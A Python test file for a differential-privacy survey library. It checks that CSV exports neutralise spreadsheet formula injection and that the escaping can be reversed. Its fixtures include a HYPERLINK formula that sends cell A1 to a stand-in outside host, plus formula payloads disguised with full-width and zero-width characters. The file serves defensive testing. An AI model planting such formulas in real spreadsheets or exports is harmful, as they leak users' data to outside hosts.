"""CSV that we write for people: no spreadsheet runs a cell of it, and programs get the text back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

import fldp
from fldp import Survey
from fldp.experiments.runner.table import COLUMNS, Table
from fldp.presentation import search, tables
from fldp.support.csv_cells import escape_cell, unescape_cell
from support.collector_server import Server, batch, specification

LINK = '=HYPERLINK("http://stranger.example/?"&A1,"see")'
FORMULAS = (
    *(LINK, "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", '"=1+1', "'=1+1"),
    *("\u200b=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)"),
    *("a;=1+1", "a\t=1+1", "a\n=1+1", "=a;=b", "\ttext", "\rtext"),
)
HARMLESS = ("chrome", "a = b", "a-b", "'tis", "user@example.org", "1 + 1", "", "\u00e9t\u00e9", "a; b", "\u2212 5")
RISKY = st.text(st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20 \t\r\n;'\"\u200b\ufeffab1,"))


def starts_a_formula(cell):
    """Tell whether a spreadsheet would run this, in a plain rule of its own: blanks and marks are passed over."""
    return cell.lstrip(' \t\r\n"\u200b\ufeff')[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_shown_and_not_run(text):
    cell = escape_cell(text)
    assert cell.startswith("'") or not starts_a_formula(text)
    assert not any(starts_a_formula(part) for part in cell.replace("\t", ";").replace("\n", ";").split(";"))
    assert unescape_cell(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_as_they_are(text):
    assert escape_cell(text) == unescape_cell(text) == text


@given(RISKY)
def test_no_text_runs_and_every_text_comes_back(text):
    cell = escape_cell(text)
    assert unescape_cell(cell) == text
    for separator in (";", "\t", "\n"):
        assert not any(starts_a_formula(part) for part in cell.split(separator))
    assert cell[:1] not in tuple("\t\r\n")


def labelled(labels):
    oracle = fldp.GRR(epsilon=1.0, domain_size=len(labels))
    survey = Survey("formulas", "Which?", oracle, labels=tuple(labels))
    return survey.estimate(fldp.Tally(oracle, [5] + [1] * (len(labels) - 1), 4 + len(labels)))


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_estimates_as_csv():
    estimate = labelled(FORMULAS)
    rows = rows_of(tables.as_csv(estimate, 0.95, None))
    assert [unescape_cell(row["label"]) for row in rows] == list(FORMULAS)
    assert not any(starts_a_formula(row["label"]) for row in rows)
    assert [float(row["count"]) for row in rows] == estimate.counts.tolist()
    assert any(row["low"].startswith("-") for row in rows)  # a number below zero stays one


def test_strings_of_a_search_as_csv():
    """Whoever answers chooses these."""
    hitters = fldp.heavy_hitters([LINK] * 3000 + ["harmless"] * 2000, epsilon=6.0, k=2, rng=3)
    strings = [row["string"] for row in rows_of(search.as_csv(hitters, 0.95))]
    assert any(string.startswith("'=H") for string in strings)
    assert not any(map(starts_a_formula, strings))


def test_the_collector_answers_with_such_csv(tmp_path):
    server = Server(tmp_path)
    try:
        fields = specification(name="formulas", oracle={"name": "grr", "epsilon": 1.0}, minimum=1)
        survey = server.publish({**fields, "labels": [LINK, "@SUM(1)", "harmless"]})
        assert server.send(survey, batch(survey, 20)).status_code == 200
        with server.admin as client:
            where = f"/v1/versions/{survey.version}/estimates"
            table = client.get(where, params={"format": "csv"})
            exact = client.get(where, params={"format": "json"})
        assert {row["label"] for row in rows_of(table.text)} == {f"'{LINK}", "'@SUM(1)", "harmless"}
        assert {row["label"] for row in exact.json()["rows"]} == {LINK, "@SUM(1)", "harmless"}
    finally:
        assert server.stop() == 0


def test_tables_of_experiments_come_back(tmp_path):
    cells = {name: [LINK if kind is str else kind(1)] for name, kind in COLUMNS.items()}
    table = Table(cells)
    table.write(tmp_path / "x.csv")
    assert Table.read(tmp_path / "x.csv") == table
    assert f"'{LINK}" in next(iter(rows_of((tmp_path / "x.csv").read_text()))).values()
